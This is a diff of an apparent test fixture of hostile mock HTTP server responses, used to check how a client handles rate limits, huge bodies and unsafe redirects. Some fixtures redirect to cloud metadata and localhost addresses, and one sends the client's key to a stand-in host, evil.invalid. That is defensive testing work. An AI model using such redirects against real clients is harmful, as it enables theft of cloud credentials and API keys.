@@ -33,61 +33,53 @@ def limited(*fields: bytes, status: int = 429) -> bytes:
 
 
 @hostile(ANY)
-def each_odd_retry_after_once(request: Request) -> Iterator[Part]:
+def each_odd_retry_after_once(request: Request) -> bytes:
     """Every third request gets 429 with another form of Retry-After, legal or not."""
     which, third = divmod(request.number, 3)
-    yield limited(b"Retry-After: " + ODD[which]) if third == 0 and which < len(ODD) else request.sent()
-    yield KEEP
+    return limited(b"Retry-After: " + ODD[which]) if third == 0 and which < len(ODD) else request.sent()
 
 
 @hostile(ANY)
-def each_odd_retry_after_with_503(request: Request) -> Iterator[Part]:
+def each_odd_retry_after_with_503(request: Request) -> bytes:
     """Every third request gets 503 with another form of Retry-After, legal or not."""
     which, third = divmod(request.number, 3)
-    yield limited(b"Retry-After: " + ODD[which], status=503) if third == 0 and which < len(ODD) else request.sent()
-    yield KEEP
+    return limited(b"Retry-After: " + ODD[which], status=503) if third == 0 and which < len(ODD) else request.sent()
 
 
 @hostile(lookup=True)
-def always_429(_request: Request) -> Iterator[Part]:
+def always_429(_request: Request) -> bytes:
     """429 to everything, with a Retry-After of one second."""
-    yield limited(b"Retry-After: 1")
-    yield KEEP
+    return limited(b"Retry-After: 1")
 
 
 @hostile(lookup=True)
-def always_429_for_ever(_request: Request) -> Iterator[Part]:
+def always_429_for_ever(_request: Request) -> bytes:
     """429 to everything, with a Retry-After of 10^10 seconds."""
-    yield limited(b"Retry-After: 10000000000")
-    yield KEEP
+    return limited(b"Retry-After: 10000000000")
 
 
 @hostile(lookup=True)
-def always_503(_request: Request) -> Iterator[Part]:
+def always_503(_request: Request) -> bytes:
     """503 to everything, with a Retry-After of two seconds."""
-    yield limited(b"Retry-After: 2", status=503)
-    yield KEEP
+    return limited(b"Retry-After: 2", status=503)
 
 
 @hostile(BAD)
-def always_429_at_once(_request: Request) -> Iterator[Part]:
+def always_429_at_once(_request: Request) -> bytes:
     """429 to everything, with a Retry-After of 0."""
-    yield limited(b"Retry-After: 0")
-    yield KEEP
+    return limited(b"Retry-After: 0")
 
 
 @hostile(ANY)
-def two_retry_afters(request: Request) -> Iterator[Part]:
+def two_retry_afters(request: Request) -> bytes:
     """429 for the tenth request, with a Retry-After of a second and one of an hour."""
-    yield limited(b"Retry-After: 1", b"Retry-After: 3600") if request.number == 10 else request.sent()
-    yield KEEP
+    return limited(b"Retry-After: 1", b"Retry-After: 3600") if request.number == 10 else request.sent()
 
 
 @hostile(ANY)
-def every_second_is_limited(request: Request) -> Iterator[Part]:
+def every_second_is_limited(request: Request) -> bytes:
     """Every second request gets 429, for a second."""
-    yield limited(b"Retry-After: 1") if request.number % 2 else request.sent()
-    yield KEEP
+    return limited(b"Retry-After: 1") if request.number % 2 else request.sent()
 
 
 def moved(request: Request, where: str) -> bytes:
@@ -97,18 +89,16 @@ def moved(request: Request, where: str) -> bytes:
 
 
 @hostile(lookup=True)
-def redirects_to_metadata(request: Request) -> Iterator[Part]:
+def redirects_to_metadata(request: Request) -> bytes:
     """Redirects to the metadata address of clouds, and to other places inside."""
     places = ("http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://127.0.0.1:22/", "//[::1]")
-    yield moved(request, places[request.number % len(places)])
-    yield KEEP
+    return moved(request, places[request.number % len(places)])
 
 
 @hostile()
-def redirects_with_the_key(request: Request) -> Iterator[Part]:
+def redirects_with_the_key(request: Request) -> bytes:
     """Redirects to another host, with the key in the query."""
-    yield moved(request, f"https://evil.invalid/?token={request.key}")
-    yield KEEP
+    return moved(request, f"https://evil.invalid/?token={request.key}")
 
 
 @hostile()
@@ -129,15 +119,13 @@ def good_then_resets(request: Request) -> Iterator[Part]:
 
 
 @hostile()
-def good_then_huge(request: Request) -> Iterator[Part]:
+def good_then_huge(request: Request) -> bytes:
     """Right for 30 requests, then 30 MiB each."""
-    yield request.sent(body=request.good.body + (b" " * (30 << 20) if request.number > 30 else b""))
-    yield KEEP
+    return request.sent(body=request.good.body + (b" " * (30 << 20) if request.number > 30 else b""))
 
 
 @hostile()
-def another_mind_each_time(request: Request) -> Iterator[Part]:
+def another_mind_each_time(request: Request) -> bytes:
     """In turn: right, limited, moved, empty, an error, right again."""
     turns = (request.sent(), limited(b"Retry-After: 0"), moved(request, "/"), request.sent(body=b""), problem(500, "x"))
-    yield turns[request.number % 5]
-    yield KEEP
+    return turns[request.number % 5]
